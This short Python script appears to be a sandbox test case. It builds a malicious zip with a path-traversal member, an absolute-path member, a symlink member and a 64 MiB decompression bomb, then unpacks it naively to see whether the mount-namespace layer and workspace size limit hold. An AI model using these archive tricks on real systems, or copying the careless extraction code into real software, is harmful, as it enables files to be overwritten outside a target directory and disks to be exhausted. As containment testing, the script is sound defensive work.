# class: archives
# attack: a zip with climbing and absolute names, one that is a link, and one that unpacks to gigabytes
# success: something outside changes, or more than the limit is unpacked
# layers: mount-namespace
# ends: limit.workspace_bytes
import os
import shutil
import sys
import zipfile

stage = dict(word.split("=", 1) for word in sys.argv[1:])
with zipfile.ZipFile("bad.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("../" * 30 + stage["drop"][1:] + "/zip-member", "owned")
    archive.writestr(stage["drop"] + "/zip-absolute", "owned")
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    archive.writestr(link, stage["drop"])
    archive.writestr("bomb", bytes(64 << 20))
with zipfile.ZipFile("bad.zip") as archive:
    for name in archive.namelist():
        if name != "bomb":
            path = os.path.join("/w", name)  # as careless programs do
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as file:
                    file.write(archive.read(name))
            except OSError:
                pass
    shutil.rmtree("/w/tmp", ignore_errors=True)
    archive.extract("bomb", "/w")
print("escaped: 64 MiB were unpacked")
